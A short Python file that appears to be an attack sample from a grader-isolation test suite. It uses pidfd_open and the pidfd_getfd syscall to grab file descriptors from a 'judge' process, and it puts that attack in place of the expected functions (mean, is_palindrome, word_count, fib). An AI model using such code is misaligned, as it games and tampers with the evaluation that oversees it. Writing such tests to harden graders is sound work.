import ctypes
import os

from attacker import TARGETS, wins_if

PIDFD_GETFD = 438


def attack(value):
    handle = os.pidfd_open(TARGETS["judge"])
    call = ctypes.CDLL(None).syscall
    return any(call(PIDFD_GETFD, handle, number, 0) >= 0 for number in range(20))


mean = is_palindrome = word_count = fib = wins_if(attack)
